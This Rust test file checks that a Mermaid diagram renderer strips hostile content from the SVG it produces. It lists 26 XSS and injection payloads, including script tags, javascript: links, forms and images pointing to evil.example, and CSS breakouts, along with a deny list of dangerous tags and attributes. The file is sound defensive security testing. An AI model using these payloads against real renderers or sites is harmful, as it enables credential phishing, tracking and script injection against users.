//! Attacks on pictures that once got through (finding 13), and labels that every viewer shows.
#![cfg(feature = "svg")]
#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::collections::HashMap;

use mermaid::parse;

fn draw(source: &str) -> String {
    parse(source)
        .unwrap()
        .to_svg("attack", &HashMap::new())
        .unwrap()
}

/// What a diagram of a stranger may try, each in a label, a link or a style.
const PAYLOADS: [&str; 26] = [
    "A[\"<form action='https://evil.example'><input name='password'></form>\"]",
    "A[\"<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</div>\"]",
    "A[\"<img src='https://evil.example/x.png'>\"]",
    "A[\"<a href='https://evil.example' target='_top'>x</a>\"]",
    "A[\"<a href='javascript:alert(1)'>x</a>\"]",
    "A[\"<script>alert(1)</script>\"]",
    "A[\"<svg onload=alert(1)>\"]",
    "A[\"<iframe src='https://evil.example'></iframe>\"]",
    "A[\"<style>body{display:none}</style>\"]",
    "A[\"<button formaction='https://evil.example'>x</button>\"]",
    "A[\"<video src='https://evil.example/v' autoplay></video>\"]",
    "A[\"<object data='https://evil.example'></object>\"]",
    "A[\"<link rel='stylesheet' href='https://evil.example/x.css'>\"]",
    "A[\"<meta http-equiv='refresh' content='0;url=https://evil.example'>\"]",
    "A@{ img: \"https://evil.example/track.png\", label: \"x\" }",
    "A@{ img: \"javascript:alert(1)\", label: \"x\" }",
    "A[x]\nclick A \"javascript:alert(1)\"",
    "A[x]\nclick A \"data:text/html,x\"",
    "A[x]\nclick A \"https://example.com\" _top",
    "A[x]\nclick A call alert()",
    "A[x]\nstyle A fill:url(https://evil.example/x)",
    "A[x]\nstyle A position:fixed,inset:0,background-image:url(https://evil.example/x)",
    "A[x]\nclassDef bad fill:red;}body{display:none\nclass A bad",
    "A[x]\nclassDef bad fill:url(https://evil.example/x),position:fixed\nclass A bad",
    "A -->|<img src=https://evil.example/x.png>| B",
    "subgraph g [\"<form action='https://evil.example'>\"]\nA\nend",
];

#[test]
fn pictures_of_strangers_cannot_act() {
    for payload in PAYLOADS {
        for direction in [
            "graph TD",
            "%%{init: {\"securityLevel\": \"loose\", \"htmlLabels\": true}}%%\ngraph LR",
        ] {
            let Ok(document) = parse(&format!("{direction}\n{payload}\n")) else {
                continue;
            };
            let Ok(svg) = document.to_svg("attack", &HashMap::new()) else {
                continue;
            };
            let lower = svg.to_ascii_lowercase();
            for bad in [
                "<foreignobject",
                "<form",
                "<input",
                "<button",
                "<img",
                "<image",
                "<iframe",
                "<script",
                "<object",
                "<video",
                "<link",
                "<meta",
                "<div",
                " target=",
                " onload",
                "javascript:",
                "data:text",
                "url(http",
                "position:",
                "inset:",
                "src=",
                "action=",
                "body{",
                "@import",
            ] {
                // Between tags a text may say anything.
                let is_there = lower.split('<').any(|tag| {
                    let tag = format!("<{}", tag.split('>').next().unwrap_or_default());
                    tag.contains(bad)
                });
                assert!(!is_there, "{bad} in the picture of {payload}: {svg}");
            }
            let style = lower
                .split("<style>")
                .nth(1)
                .and_then(|rest| rest.split("</style>").next());
            let style = style.unwrap_or_default();
            for bad in ["url(", "position", "@", "body", "evil.example"] {
                assert!(
                    !style.contains(bad),
                    "{bad} in the styles of {payload}: {style}"
                );
            }
        }
    }
}

#[test]
fn links_lead_to_pages_and_say_nothing_of_where_they_come_from() {
    let svg = draw("graph LR\nA[x]\nclick A href \"https://example.com/a?b=1&c=2\" _blank");
    assert!(
        svg.contains("<a href=\"https://example.com/a?b=1&amp;c=2\" rel=\"noopener noreferrer\""),
        "{svg}"
    );
}

#[test]
fn labels_are_text_that_every_viewer_shows() {
    let svg = draw(
        "graph TD\nA[Fetch PR Details] -->|output.score >= 80 && x < 3| B{Score high?}\n\
         subgraph g [A group of steps]\nC[\"two<br/>lines & more\"]\nend\nB -->|default| C",
    );
    for label in [
        "Fetch PR Details</tspan>",
        "output.score &gt;= 80",
        "Score high?</tspan>",
        "A group of steps</tspan>",
        ">two</tspan>",
        ">lines &amp; more</tspan>",
        ">default</tspan>",
    ] {
        assert!(svg.contains(label), "{label} is missing: {svg}");
    }
    assert!(!svg.contains("foreignObject"));
    let long = draw(
        "graph TD\nA[A label that is so long that it needs several lines to be shown in its box]",
    );
    assert!(long.matches("<tspan").count() > 1, "{long}");
}

#[test]
fn colours_of_the_diagram_stay() {
    let svg = draw(
        "graph LR\nA[x]:::mine --> B[y]\nclassDef mine fill:#123456,color:#fff\nstyle B fill:#abcdef,color:#00f",
    );
    for kept in ["#123456", "#abcdef", "fill:#fff", "fill:#00f"] {
        assert!(svg.contains(kept), "{kept} is missing: {svg}");
    }
}
